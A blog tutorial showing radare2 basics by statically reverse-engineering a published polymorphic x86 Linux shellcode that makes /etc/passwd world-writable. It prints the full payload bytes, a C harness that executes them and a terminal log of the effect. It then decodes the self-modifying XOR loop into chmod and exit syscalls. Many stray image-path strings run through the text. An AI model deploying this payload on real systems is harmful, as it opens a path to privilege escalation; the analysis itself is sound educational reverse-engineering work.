Adventures with Radare2 #1: A Simple Shellcode Analysis

September 26, 2014

Posted on July 17, 2011 by Edd, on

Radare2 is an open-source reverse engineering toolkit, consisting of a disassembler, debugger and hex editor. In this article I will show you the basics by reversing some shellcode I found on Project Shellcode.

To put this into context let’s briefly discuss what we mean by the term “shellcode”, not to be confused with “shellscript”, which is something else entirely. “Shellcode” is a term colloquially used to refer to the payload of an exploit. Typically this would be code injected to start a shell.

Project Shellcode is a repository of shellcodes (with source), which I found via last month (thanks polsab); let’s look at one of the examples found there. 60 Bytes Chmod 777 Polymorphic x86 Linux Shellcode

The first shellcode I happened to look at from projectshellcode was this

0   _                   __           __       __                   11 /' \            __  /'__`\        /\ \__  /'__`\                 0
0/\_, \    ___   /\_\/\_\ \ \    ___\ \ ,_\/\ \/\ \  _ ___         1
1\/_/\ \ /' _ `\ \/\ \/_/_\_<_  /'___\ \ \/\ \ \ \ \/\`'__\        0
0   \ \ \/\ \/\ \ \ \ \/\ \ \ \/\ \__/\ \ \_\ \ \_\ \ \ \/         1
1    \ \_\ \_\ \_\_\ \ \ \___./\ \.___\\ \__\\ \.___/\\_\         0
0     \/_/\/_/\/_/\ \_\ \/___/  \/___/ \/__/ \/___/  \/_/          1
1                \ \___./ >> Exploit database separated by         0
0                 \/___/     exploit type (local, remote, DoS, ..) 1
1                                                                  1
0  [+] Site            :                              0
1  [+] Support e-mail  : submit[at]                    1
0                                                                  0
Name   : 60 bytes chmod 777 polymorphic x86 linux shellcode
Date   : Sat Jun  5 16:10:00 2010
Author : gunslinger_
Web    :
blog   :
tested on : linux debian
special thanks to : r0073r (, d3hydr8 (,
ty miller (, jonathan salwan(,
mywisdom (, loneferret (

root@localhost# ls -la /etc/passwd
-rw-r--r-- 1 root root 1869 2010-05-08 15:53 /etc/passwd
root@localhost# gcc -o polymorphic_chmod polymorphic_chmod.c
chmod.c: In function 'main':
chmod.c:37: warning: incompatible implicit declaration of built-in function ‘strlen’
root@localhost# ./polymorphic_chmod
Length: 64
root@localhost# ls -la /etc/passwd
-rwxrwxrwx 1 root root 1869 2010-05-08 15:53 /etc/passwd
root@localhost# chmod 644 /etc/passwd
root@localhost# ls -la /etc/passwd
-rw-r--r-- 1 root root 1869 2010-05-08 15:53 /etc/passwd

#include <stdio.h>

char shellcode[] =

int main(void) {
    (*(void(*)()) shellcode)();
    return 0;

Thanks to gunslinger for allowing me to use this code as an example.

UPDATE: Current r2 comes with ‘ragg2’a tool designed to construct shellcodes and executes them. That C code can be replaced with a shellscript like this:

$ rarun2 -x -Beb115e31c9b127806c0eff3580e90175f6eb05e8eaffffff204a66f5e5449066fe9bee343602b566f5e536661002b51d1b343434649aa99864a596a8a8ac99

The description in comments claims that the code sets the file permissions on /etc/passwd to 777, but you would not know that at a glance. What we do know is that we have an array of bytes initialised as hex, which is then cast to a function pointer and called.

Analysis with Radare2

So how do we find out what this program does? We could build it and run it, but I won’t, as it could remove my home directory for all I know. Instead let us examine it statically using radare2.

First we build a binary:

% cc -o shellcodepolymorphic_chmod_etc_passwd_777.c
polymorphic_chmod_etc_passwd_777.c: In function 'main':
polymorphic_chmod_etc_passwd_777.c:53: warning: incompatible implicit
declaration of built-in function 'strlen'

Next we ignore the warning, and now we load it into radare2:

% r2 ./shellcode
 -- In soviet russia radare debugs you!

I started radare2 without -d, so we are running in “static” mode, as opposed to using the debugger built into radare2. Now radare is ready and waiting for commands, so let’s get to it.

Radare2 commands tend to be very short, some only one letter long. Type ? followed by enter to get an overview of what you can do.Suffixing a command witha question mark, will give more detailed information on it’s usage.

What we should first do is locate that byte string. Because our binary was not stripped, we have the luxury of knowing what the virtual address of ‘main’ is. Radare2 uses the concept of “flags” to mark useful locations in binaries. Try typing f to see a list of flags. The function main will be flagged as ‘sym.main’.

We use the pd command to disassemble:

[0x1c000764]> pd@sym.main
      0x1c000764  sym.main:
      0x1c000764    0    lea ecx, [esp+0x4]
      0x1c000768    0    and esp, 0xfffffff0
      0x1c00076b    0    push dword [ecx-0x4]
      0x1c00076e    4+   push ebp
      0x1c00076f    8+   mov ebp, esp
      0x1c000771    8    push ecx
      0x1c000772   12+   sub esp, 0x14
      0x1c000775   32+   mov dword [esp], sym.shellcode
      0x1c00077c   32>   call dword imp.strlen
         ; imp.strlen() [1]
      0x1c000781   32    mov edx, 0x3c0031d8
      0x1c000786   32    mov [esp+0x8], eax
      0x1c00078a   32    mov dword [esp+0x4], str.Lengthd
      0x1c000792   32    mov [esp], edx
      0x1c000795   32>   call dword imp.fprintf; imp.fprintf() [2]
      0x1c00079a   32    mov eax, sym.shellcode
      0x1c00079f32    call eax

The pd command will disassemble a chunk of code equal to the “block size” (see the ‘b’ command) and in this case it looks like main was bigger than our block size. Because we know that GCC will make “well-formed” functions, we ask radare2 to analyse this function and print it in its entirety:

[0x1c000764]> af@sym.main
[0x1c000764]> pdf@sym.main
/ function: sym.main (75)
|     0x1c000764  sym.main:
|     0x1c000764    0    8d4c2404         lea ecx, [esp+0x4]
|     0x1c000768    0    83e4f0           and esp, 0xfffffff0
|     0x1c00076b    0    ff71fc           push dword [ecx-0x4]
|     0x1c00076e    4+   55               push ebp
|     0x1c00076f    8+   89e5             mov ebp, esp
|     0x1c000771    8    51               push ecx
|     0x1c000772   12+   83ec14           sub esp, 0x14
|     0x1c000775   32+   c704244010003c   mov dword [esp], sym.shellcode
|     0x1c00077c   32>   e86bfdffff       call dword imp.strlen
|        ; imp.strlen() [1]
|     0x1c000781   32    bad831003c       mov edx, 0x3c0031d8
|     0x1c000786   32    89442408         mov [esp+0x8], eax
|     0x1c00078a   32    c74424040100003c mov dword [esp+0x4], str.Lengthd
|     0x1c000792   32    891424           mov [esp], edx|     0x1c000795   32>   e822fdffff       call dword imp.fprintf
|        ; imp.fprintf() [2]
|     0x1c00079a   32    b84010003c       mov eax, sym.shellcode
|     0x1c00079f   32    ffd0             call eax
|        ; unk()
|     0x1c0007a1   32    b800000000       mov eax, 0x0
|     0x1c0007a6   32    83c414           add esp, 0x14
|     0x1c0007a9   12-   59               pop ecx
|     0x1c0007aa    8-   5d               pop ebp
|     0x1c0007ab    4-   8d61fc           lea esp, [ecx-0x4]
\     0x1c0007ae    4    c3               ret
      ; ---

A quick eyeballing of this code shows us what we need to know. There was enough information in our binary for radare2 to flag the byte string holding the exploit. If you want to see the actual address of this string, you can turn off the asm.filter using the e command; this will prevent radare2 from substituting symbols names for constants in disassembly views.

What does the program do with the payload? We see strlen() and printf() being called, but more importantly, we see the address of the shellcode being loaded into eax before being called (load at 0x1c00079a, call at 0x1c00079f). The obviousnext step is to examine the payload to get an idea of what it might do:

[0x1c000764]> pD 60@sym.shellcode
     ,   0x3c001040  sym.shellcode:
     ,=< 0x3c001040    0    eb11             jmp 0x3c001053 [1]
     |   0x3c001042    0    5e               pop esi
     |   0x3c001043   -4-   31c9             xor ecx, ecx
     |   0x3c001045   -4    b127             mov cl, 0x27
    .--> 0x3c001047   -4    806c0eff35       sub byte [esi+ecx-0x1], 0x35
    ||   0x3c00104c   -4    80e901           sub cl, 0x1
    `==< 0x3c00104f   -4    75f6             jnz 0x3c001047 [2]
   ,===< 0x3c001051   -4    eb05             jmp 0x3c001058 [3]
   | `-> 0x3c001053   -4>   e8eaffffff       call dword 0x3c001042
   | |      ; 0x3c001042() [4]
   `---> 0x3c001058   -4    204a66           and [edx+0x66], cl
         0x3c00105b   -4    f5               cmc
         0x3c00105c   -4    e544             in eax, 0x44
         0x3c00105e   -4    90               nop0x3c00105f   -4    66fe9b           o16 invalid
         0x3c001062   -4    ee               out dx, al
         0x3c001063   -4    3436             xor al, 0x36
         0x3c001065   -4    02b566f5e536     add dh, [ebp+0x36e5f566]
         0x3c00106b   -4    661002           o16 adc [edx], al
         0x3c00106e   -4    b51d             mov ch, 0x1d
         0x3c001070   -4    1b3434           sbb esi, [esp+esi]
         0x3c001073   -4 string (5): "444d"
         0x3c001078   -4 hex length=64 delta=2
0x3c001078  64a5 96a8 a8ac 9900 0000 0000 0100 0000
0x3c001088  0100 0000 0400 0000 c001 001c 0500 0000
0x3c001098  8803 001c 0600 0000 5802 001c 0a00 0000
0x3c0010a8  bf00 0000 0b00 0000 1000 0000 1500 0000

I used pD here so that I could specify exactly how many bytes to disassemble (I chose 60). So what can we say about this? Well at first glance, there are some invalid operations which can’t be executed, so that’s a bit fishy.

What I will now is do a symbolic execution of this code in my head. We first jump to 0x3c001053, from here we call to 0x3c001042, which happens to be the instruction right after where we came from in the first place. This could be pointless, but bear in mind that the call has pushed the return address of the call onto the stack. Andwhat do you know, they immediately pop the return address into esi. In 32-bit x86 there is no way of getting directly at the program counter; what you have just seen is a well known hack used to get it. The value of the program counter can be used to refer to code/data relative to the payload (remember that the attacker does not know where his/her code will be relocated by the linker).

So now we are at 0x3c001043 with 0x3c001058 in esi. The code zeros ecx by xoring it with itself, before loading 0x27 into the lowest byte of ecx. The next chunk of code which subtracts 0x35 from a [esi+ecx-0x1], for ecx = {0x27, 0x26, … , 0x1} and we already know the value of esi from earlier. So by my calculations, we need to subtract 0x35 from 0x27 bytes starting at 0x3c001058 so as to emulate the effect of this self modifying code. We can do this using the ‘wo’ family of commands; let’s ask radare2 for help on this:

[0x1c000764]> wo?
Usage: wo[asmdxoArl24] [hexpairs] @ addr[:bsize]
  wox 0x90   ; xor cur block with 0x90
  wox 90     ; xor cur block with 0x90
  wox 0x0203 ; xor cur block with 0203
  woa 02 03  ; add [0203][0203][...] to curblkSupported operations:
  woa  +=  additionwos  -=  substraction
  wom  *=  multiply
  wod  /=  divide
  wox  ^=  xor
  woo  |=  or
  woA  &=  and
  wor  >>= shift right
  wol  <<= shift left
  wo2  2=  2 byte endian swap
  wo4  4=  4 byte endian swap

We need to use wos so as to subtract a constant from a range of memory addresses, but before that we need to turn on io caching. By default radare2 opens files read-only, unless you give the -w flag. Alternatively we can set the io.cache option on, which caches writes in memory; These writes can be reverted or committed as the user pleases, but we will not be using these facilities for this example.

[0x1c000764]> e io.cache=true
[0x1c000764]> wos 0x35@0x3c001058:0x27
[0x3c001040]> pd
      ,   0x3c001040  sym.shellcode:
      ,=< 0x3c001040    0    eb11             jmp 0x3c001053 [1]
      |   0x3c001042    0    5e               pop esi
      |   0x3c001043   -4-   31c9             xor ecx, ecx
      |   0x3c001045   -4    b127             mov cl, 0x27
     .--> 0x3c001047   -4    806c0eff35       sub byte [esi+ecx-0x1], 0x35
     ||   0x3c00104c   -4    80e901           sub cl, 0x1
     `==< 0x3c00104f   -4    75f6             jnz 0x3c001047 [2]
    ,===< 0x3c001051   -4    eb05             jmp 0x3c001058 [3]
    | `-> 0x3c001053   -4>   e8eaffffff       call dword 0x3c001042
    | |      ; 0x3c001042() [4]
   ,`---> 0x3c001058   -4    eb15             jmp 0x3c00106f [5]
   |      0x3c00105a   -4    31c0             xor eax,eax
   |      0x3c00105c   -4    b00f             mov al, 0xf
   |      0x3c00105e   -4    5b               pop ebx
   |      0x3c00105f   -8-   31c9             xor ecx, ecx
   |      0x3c001061   -8    66b9ff01         mov cx, 0x1ff
   |      0x3c001065   -8    cd80             int 0x80
   |         ; syscall[0x80][3840]=?
   |      0x3c001067   -8    31c0             xor eax, eax
   |      0x3c001069   -8    b001             mov al, 0x1
   |      0x3c00106b   -8    31db             xor ebx, ebx
   |      0x3c00106d   -8    cd80             int 0x80
   |         ; msync (0x100,0x0,0x1ff)
   `----> 0x3c00106f   -8>   e8e6ffffff       call dword 0x3c00105a
   |         ; 0x3c00105a() [6]
          0x3c001074   -8 string (5): "444d"
